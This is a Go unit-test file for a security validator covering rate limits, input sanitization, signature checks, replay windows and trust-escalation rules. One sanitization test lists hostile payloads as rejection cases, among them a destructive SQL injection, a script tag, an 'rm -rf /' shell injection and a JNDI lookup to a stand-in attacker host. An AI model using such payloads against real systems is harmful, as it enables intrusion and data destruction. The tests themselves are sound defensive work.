package validate

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"strings"
	"testing"
	"time"

	"trustmesh.org/internal/cache"
	"trustmesh.org/internal/trust"
)

var testTime = time.Date(2026, 5, 20, 12, 0, 0, 0, time.UTC)

func newSecurityValidator(t *testing.T, counters cache.Counters) *SecurityValidator {
	t.Helper()
	if counters == nil {
		counters = cache.NewInMemoryWithClock(func() time.Time { return testTime })
	}
	store := trust.NewInMemory()
	return NewSecurityValidator(counters, store,
		WithSecret("unit-secret"),
		WithNow(func() time.Time { return testTime }),
	)
}

// failingCounters simulates an unavailable counter backend.
type failingCounters struct{}

func (failingCounters) Increment(context.Context, string, time.Duration) (int64, error) {
	return 0, errors.New("backend down")
}
func (failingCounters) Get(context.Context, string) (int64, error) {
	return 0, errors.New("backend down")
}
func (failingCounters) Set(context.Context, string, int64, time.Duration) error {
	return errors.New("backend down")
}

func TestRateLimitingBoundary(t *testing.T) {
	ctx := context.Background()
	counters := cache.NewInMemoryWithClock(func() time.Time { return testTime })
	v := newSecurityValidator(t, counters)

	cases := []struct {
		count     int64
		wantValid bool
		wantWarn  bool
	}{
		{7, true, false},
		{8, true, true},
		{9, true, true},
		{10, false, false},
		{11, false, false},
	}
	for _, tc := range cases {
		if err := counters.Set(ctx, "rate:create_relationship:user:u1", tc.count, time.Hour); err != nil {
			t.Fatal(err)
		}
		out := v.ValidateRateLimiting(ctx, "create_relationship", "u1", "", 0, 0)
		if out.Valid != tc.wantValid {
			t.Fatalf("count %d: valid = %v, want %v (%v)", tc.count, out.Valid, tc.wantValid, out.Errors)
		}
		if tc.wantWarn && len(out.Warnings) == 0 {
			t.Fatalf("count %d: expected an approaching-limit warning", tc.count)
		}
		if out.CurrentCount == nil || *out.CurrentCount != tc.count {
			t.Fatalf("count %d: CurrentCount extra missing or wrong", tc.count)
		}
	}
}

func TestRateLimitingOrganizationPool(t *testing.T) {
	ctx := context.Background()
	counters := cache.NewInMemoryWithClock(func() time.Time { return testTime })
	v := newSecurityValidator(t, counters)

	// Organization pool is 5x the user limit. The user is fine but the
	// organization as a whole exhausted its allowance.
	if err := counters.Set(ctx, "rate:create_group:org:o1", 50, time.Hour); err != nil {
		t.Fatal(err)
	}
	out := v.ValidateRateLimiting(ctx, "create_group", "u1", "o1", 0, 0)
	if out.Valid {
		t.Fatal("organization pool exhaustion should block the operation")
	}
}

func TestRateLimitingFailsOpen(t *testing.T) {
	v := newSecurityValidator(t, failingCounters{})
	out := v.ValidateRateLimiting(context.Background(), "create_relationship", "u1", "o1", 0, 0)
	if !out.Valid {
		t.Fatalf("counter backend faults must not block operations: %v", out.Errors)
	}
	if len(out.Warnings) == 0 {
		t.Fatal("fail-open must be visible as a warning")
	}
}

func TestRecordOperationWindow(t *testing.T) {
	ctx := context.Background()
	counters := cache.NewInMemoryWithClock(func() time.Time { return testTime })
	v := newSecurityValidator(t, counters)

	for i := 0; i < 3; i++ {
		v.RecordOperation(ctx, "join_group", "u1", "o1")
	}
	if got, _ := counters.Get(ctx, "rate:join_group:user:u1"); got != 3 {
		t.Fatalf("user counter = %d, want 3", got)
	}
	if got, _ := counters.Get(ctx, "rate:join_group:org:o1"); got != 3 {
		t.Fatalf("org counter = %d, want 3", got)
	}
}

func TestInputSanitizationRejectsInjection(t *testing.T) {
	v := newSecurityValidator(t, nil)

	payloads := []struct {
		name  string
		value string
	}{
		{"sql", "'; DROP TABLE organizations; --"},
		{"xss", "<script>alert(1)</script>"},
		{"shell", "demo; rm -rf /"},
		{"template", "{{7*7}}"},
		{"dollar-template", "${jndi:ldap://evil.example/a}"},
		{"nul", "clean\x00byte"},
		{"oversized", strings.Repeat("a", 15000)},
	}
	for _, tc := range payloads {
		out := v.ValidateInputSanitization(map[string]any{"notes": tc.value})
		if out.Valid {
			t.Fatalf("%s payload should be rejected", tc.name)
		}
	}
}

func TestInputSanitizationWalksNestedStructures(t *testing.T) {
	v := newSecurityValidator(t, nil)
	data := map[string]any{
		"outer": map[string]any{
			"list": []any{"fine", map[string]any{"deep": "<script>x</script>"}},
		},
	}
	out := v.ValidateInputSanitization(data)
	if out.Valid {
		t.Fatal("nested injection should be found")
	}
}

func TestInputSanitizationAllowsCleanPayload(t *testing.T) {
	v := newSecurityValidator(t, nil)
	data := map[string]any{
		"source_org":       "0c6b8f9e-bf21-4d8a-9d0a-64a4e2b0f7b3",
		"trust_level_name": "Medium",
		"notes":            "Sharing agreement signed 2026-05-01",
	}
	if out := v.ValidateInputSanitization(data); !out.Valid {
		t.Fatalf("clean payload rejected: %v", out.Errors)
	}
}

func TestInputSanitizationWarnsOnLongStrings(t *testing.T) {
	v := newSecurityValidator(t, nil)
	out := v.ValidateInputSanitization(map[string]any{"notes": strings.Repeat("a", 6000)})
	if !out.Valid {
		t.Fatalf("6000 characters is a warning, not an error: %v", out.Errors)
	}
	if len(out.Warnings) == 0 {
		t.Fatal("expected a length warning")
	}
}

func TestCryptographicIntegrityHMAC(t *testing.T) {
	v := newSecurityValidator(t, nil)
	data := map[string]any{"relationship_id": "r1", "action": "revoke"}

	sig := v.Sign(data)
	if out := v.ValidateCryptographicIntegrity(data, sig, ""); !out.Valid {
		t.Fatalf("valid signature rejected: %v", out.Errors)
	}

	data["action"] = "approve"
	if out := v.ValidateCryptographicIntegrity(data, sig, ""); out.Valid {
		t.Fatal("tampered payload accepted")
	}
}

func TestCryptographicIntegrityHash(t *testing.T) {
	v := newSecurityValidator(t, nil)
	data := map[string]any{"b": 2, "a": 1}

	sum := sha256.Sum256([]byte(CanonicalForm(data)))
	if out := v.ValidateCryptographicIntegrity(data, "", hex.EncodeToString(sum[:])); !out.Valid {
		t.Fatalf("valid hash rejected: %v", out.Errors)
	}
	if out := v.ValidateCryptographicIntegrity(data, "", strings.Repeat("0", 64)); out.Valid {
		t.Fatal("wrong hash accepted")
	}
}

func TestCanonicalFormIsKeyOrdered(t *testing.T) {
	a := CanonicalForm(map[string]any{"z": 1, "a": 2})
	b := CanonicalForm(map[string]any{"a": 2, "z": 1})
	if a != b {
		t.Fatalf("canonical form must not depend on map iteration: %q vs %q", a, b)
	}
}

func TestTemporalSecurity(t *testing.T) {
	v := newSecurityValidator(t, nil)

	cases := []struct {
		name      string
		ts        time.Time
		wantValid bool
		wantWarn  bool
	}{
		{"fresh", testTime.Add(-10 * time.Second), true, false},
		{"aging", testTime.Add(-4*time.Minute - 30*time.Second), true, true},
		{"replayed", testTime.Add(-6 * time.Minute), false, false},
		{"slight future", testTime.Add(45 * time.Second), true, true},
		{"far future", testTime.Add(90 * time.Second), false, false},
	}
	for _, tc := range cases {
		out := v.ValidateTemporalSecurity(tc.ts, 5*time.Minute)
		if out.Valid != tc.wantValid {
			t.Fatalf("%s: valid = %v, want %v (%v)", tc.name, out.Valid, tc.wantValid, out.Errors)
		}
		if tc.wantWarn && len(out.Warnings) == 0 {
			t.Fatalf("%s: expected a warning", tc.name)
		}
	}
}

func TestTrustEscalationBoundary(t *testing.T) {
	v := newSecurityValidator(t, nil)
	low := &trust.TrustLevel{Name: "Low", NumericalValue: 25}
	medium := &trust.TrustLevel{Name: "Medium", NumericalValue: 50}
	high := &trust.TrustLevel{Name: "High", NumericalValue: 75}

	// An increase of exactly 25 points needs no justification.
	if out := v.ValidateTrustEscalation(low, medium, ""); !out.Valid {
		t.Fatalf("25-point increase rejected: %v", out.Errors)
	}

	// 50 points requires a substantial justification.
	if out := v.ValidateTrustEscalation(low, high, ""); out.Valid {
		t.Fatal("50-point increase without justification accepted")
	}
	if out := v.ValidateTrustEscalation(low, high, "too short"); out.Valid {
		t.Fatal("short justification accepted")
	}

	justification := "Partner completed onboarding and vendor assessment with a signed data handling agreement in place."
	out := v.ValidateTrustEscalation(low, high, justification)
	if !out.Valid {
		t.Fatalf("substantial justification rejected: %v", out.Errors)
	}
	if out.TrustIncrease == nil || *out.TrustIncrease != 50 {
		t.Fatal("TrustIncrease extra missing")
	}
}

func TestTrustEscalationRejectsSuspiciousJustification(t *testing.T) {
	v := newSecurityValidator(t, nil)
	low := &trust.TrustLevel{Name: "Low", NumericalValue: 25}
	high := &trust.TrustLevel{Name: "High", NumericalValue: 75}

	justification := "We need this to exploit the shared feed for our quarterly partner threat program."
	if out := v.ValidateTrustEscalation(low, high, justification); out.Valid {
		t.Fatal("justification with a disallowed keyword accepted")
	}
}

func TestTrustEscalationToCompleteWarnsWithoutReview(t *testing.T) {
	v := newSecurityValidator(t, nil)
	medium := &trust.TrustLevel{Name: "Medium", NumericalValue: 50}
	complete := &trust.TrustLevel{Name: "Complete", NumericalValue: 100}

	justification := "Formal partner agreement signed by both legal departments covering unredacted sharing."
	out := v.ValidateTrustEscalation(medium, complete, justification)
	if !out.Valid {
		t.Fatalf("escalation rejected: %v", out.Errors)
	}
	found := false
	for _, w := range out.Warnings {
		if strings.Contains(w, "security review") {
			found = true
		}
	}
	if !found {
		t.Fatal("expected a missing-security-review warning")
	}
}

func TestAnonymizationDowngradeFloor(t *testing.T) {
	v := newSecurityValidator(t, nil)
	medium := &trust.TrustLevel{Name: "Medium", NumericalValue: 50}
	high := &trust.TrustLevel{Name: "High", NumericalValue: 75}

	if out := v.ValidateAnonymizationDowngrade(trust.AnonymizationPartial, trust.AnonymizationNone, medium); out.Valid {
		t.Fatal("downgrade to none below trust 75 accepted")
	}
	if out := v.ValidateAnonymizationDowngrade(trust.AnonymizationMinimal, trust.AnonymizationNone, high); !out.Valid {
		t.Fatalf("downgrade to none at trust 75 rejected: %v", out.Errors)
	}
}

func TestAnonymizationDowngradeMultiStepWarns(t *testing.T) {
	v := newSecurityValidator(t, nil)
	high := &trust.TrustLevel{Name: "High", NumericalValue: 75}

	out := v.ValidateAnonymizationDowngrade(trust.AnonymizationFull, trust.AnonymizationMinimal, high)
	if !out.Valid {
		t.Fatalf("two-step downgrade rejected: %v", out.Errors)
	}
	if len(out.Warnings) == 0 {
		t.Fatal("two-step downgrade should warn")
	}

	// Upgrades are always fine.
	if out := v.ValidateAnonymizationDowngrade(trust.AnonymizationMinimal, trust.AnonymizationFull, nil); !out.Valid || len(out.Warnings) != 0 {
		t.Fatal("increasing obscurity should pass silently")
	}
}

func TestBulkOperationBounds(t *testing.T) {
	v := newSecurityValidator(t, nil)

	if out := v.ValidateBulkOperations(101, "u1"); out.Valid {
		t.Fatal("101 operations should be rejected")
	}
	out := v.ValidateBulkOperations(51, "u1")
	if !out.Valid || len(out.Warnings) == 0 {
		t.Fatal("51 operations should pass with a warning")
	}
	if out := v.ValidateBulkOperations(50, "u1"); !out.Valid || len(out.Warnings) != 0 {
		t.Fatal("50 operations should pass silently")
	}
}

func TestSuspiciousPatternsVolume(t *testing.T) {
	ctx := context.Background()
	counters := cache.NewInMemoryWithClock(func() time.Time { return testTime })
	v := newSecurityValidator(t, counters)

	var out *Outcome
	for i := 0; i < 11; i++ {
		out = v.ValidateSuspiciousPatterns(ctx, "u1", "o1", nil)
	}
	if !out.Valid {
		t.Fatal("suspicious patterns must never hard-fail")
	}
	if len(out.Warnings) == 0 {
		t.Fatal("11th operation in the window should warn")
	}
}
